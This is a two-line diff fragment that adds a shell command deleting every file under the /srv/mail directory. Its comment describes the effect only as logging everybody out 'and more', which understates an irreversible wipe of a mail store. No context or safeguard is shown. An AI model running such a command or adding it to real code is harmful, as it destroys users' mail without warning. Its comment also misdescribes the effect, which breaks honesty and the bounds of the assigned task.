@@ -1,0 +1,2 @@
+# Logs everybody out, and more.
+find /srv/mail -type f -delete
